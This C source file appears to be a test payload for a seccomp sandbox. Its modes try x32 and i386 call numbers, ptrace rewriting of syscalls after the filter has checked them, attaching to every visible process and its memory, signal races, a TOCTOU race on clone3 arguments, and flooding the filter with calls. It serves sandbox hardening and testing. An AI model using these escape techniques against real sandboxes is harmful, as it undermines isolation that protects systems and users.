/* Ways around the system call filter: other call tables, other processes, interrupted calls. */
#include "payload.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/time.h>
#include <sys/user.h>

#define X32 0x40000000L

static long int80(long nr, long b, long c, long d)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(nr), "b"(b), "c"(c), "d"(d) : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static long raw(long nr, long a, long b, long c)
{
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

static void tell_raw(const char *what, long result)
{
    if (result < 0 && result > -4096)
        errno = (int)-result, result = -1;
    tell(what, result);
}

/* The same calls under the numbers of x32. */
static int x32(int argc, char **argv)
{
    const char *which = argc > 1 ? argv[1] : "getpid";
    if (strcmp(which, "getpid") == 0)
        tell_raw("x32 getpid", raw(X32 | SYS_getpid, 0, 0, 0));
    if (strcmp(which, "ptrace") == 0)
        tell_raw("x32 ptrace", raw(X32 | 521, PTRACE_TRACEME, 0, 0));
    if (strcmp(which, "unshare") == 0)
        tell_raw("x32 unshare", raw(X32 | SYS_unshare, CLONE_NEWUSER, 0, 0));
    if (strcmp(which, "high") == 0)
        tell_raw("high bits", raw((1L << 32) | SYS_unshare, CLONE_NEWUSER, 0, 0));
    return 0;
}

/* The calls of 32-bit Linux, from a 64-bit program. */
static int i386(int argc, char **argv)
{
    const char *which = argc > 1 ? argv[1] : "getpid";
    if (strcmp(which, "getpid") == 0)
        tell_raw("i386 getpid", int80(20, 0, 0, 0));
    if (strcmp(which, "ptrace") == 0)
        tell_raw("i386 ptrace", int80(26, PTRACE_TRACEME, 0, 0));
    if (strcmp(which, "unshare") == 0)
        tell_raw("i386 unshare", int80(310, CLONE_NEWUSER, 0, 0));
    return 0;
}

/* Traces a child and turns an allowed call of it into a forbidden one after the filter looked. */
static int trace_swap(int argc, char **argv)
{
    (void)argc, (void)argv;
    pid_t child = fork();
    if (child == -1)
        return (int)tell("fork", -1);
    if (child == 0) {
        if (tell("PTRACE_TRACEME", ptrace(PTRACE_TRACEME, 0, NULL, NULL)) == -1)
            _exit(0);
        raise(SIGSTOP);
        tell("swapped call", syscall(SYS_getppid, CLONE_NEWUSER));
        _exit(0);
    }
    int status;
    struct user_regs_struct registers;
    for (waitpid(child, &status, 0); WIFSTOPPED(status); waitpid(child, &status, 0)) {
        if (ptrace(PTRACE_GETREGS, child, NULL, &registers) == 0 && registers.orig_rax == SYS_getppid) {
            registers.orig_rax = SYS_unshare;
            ptrace(PTRACE_SETREGS, child, NULL, &registers);
        }
        ptrace(PTRACE_SYSCALL, child, NULL, NULL);
    }
    return 0;
}

/* Reaches into a process of its own and into everyone else it can see. */
static int trace_all(int argc, char **argv)
{
    (void)argc, (void)argv;
    for (pid_t pid = 1; pid < 4000; pid++) {
        char path[64];
        if (pid == getpid() || (kill(pid, 0) == -1 && errno == ESRCH))
            continue;
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        say("sees process %d", pid);
        tell("its memory", open(path, O_RDWR));
        tell("attach", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
    }
    return 0;
}

static void *disturb(void *target)
{
    for (;;) {
        pthread_kill(*(pthread_t *)target, SIGUSR1);
        for (volatile int i = 0; i < 3000; i++)
            ;
    }
}

static void nothing(int sig)
{
    (void)sig;
}

/* Makes a forbidden call again and again while signals interrupt the waiting for its judge. */
static int interrupted(int argc, char **argv)
{
    (void)argc, (void)argv;
    struct sigaction action = {.sa_handler = nothing};
    sigaction(SIGUSR1, &action, NULL);
    pthread_t self = pthread_self(), other;
    pthread_create(&other, NULL, disturb, &self);
    for (int i = 0; i < 20000; i++)
        if (syscall(SYS_ptrace, PTRACE_TRACEME, 0, NULL, NULL) != -1)
            return (int)tell("ptrace", 0);
    tell("20000 times", -1);
    return 0;
}

static volatile long flags;

static void *flip(void *unused)
{
    (void)unused;
    for (;;)
        flags ^= CLONE_NEWUSER;
}

/* Changes the arguments of clone3 in memory while the kernel and the filter look at them. */
static int swap_arguments(int argc, char **argv)
{
    (void)argc, (void)argv;
    static struct { uint64_t flags, pidfd, child, parent, exit, stack, size, tls, tid, count, cgroup; } args;
    pthread_t other;
    pthread_create(&other, NULL, flip, NULL);
    for (int i = 0; i < 20000; i++) {
        args.flags = (uint64_t)flags;
        args.exit = SIGCHLD;
        long child = syscall(SYS_clone3, &args, sizeof args);
        if (child == 0)
            _exit(0);
        if (child > 0)
            return (int)tell("clone3", child);
    }
    tell("clone3", -1);
    return 0;
}

/* Loads filters of our own: they may only take away. */
static int own_filter(int argc, char **argv)
{
    (void)argc, (void)argv;
    struct sock_filter allow = {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW};
    struct sock_fprog program = {1, &allow};
    tell("prctl filter", prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program));
    tell("listener", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program));
    tell("unshare afterwards", syscall(SYS_unshare, CLONE_NEWUSER));
    tell("get filter", ptrace(0x420c, getpid(), 0, NULL));
    return 0;
}

/* Many forbidden calls at once, from many processes and threads. */
static int crowd(int argc, char **argv)
{
    (void)argc, (void)argv;
    for (int i = 0; i < 6; i++)
        if (fork() == 0)
            break;
    for (;;)
        if (syscall(SYS_ptrace, PTRACE_TRACEME, 0, NULL, NULL) != -1)
            say("ptrace: GOT");
}

int main(int argc, char **argv)
{
    static const struct mode modes[] = {
        {"x32", x32},           {"i386", i386},               {"trace-swap", trace_swap},
        {"trace-all", trace_all}, {"interrupted", interrupted}, {"swap-arguments", swap_arguments},
        {"own-filter", own_filter}, {"crowd", crowd},         {NULL, NULL},
    };
    return choose(modes, argc, argv);
}
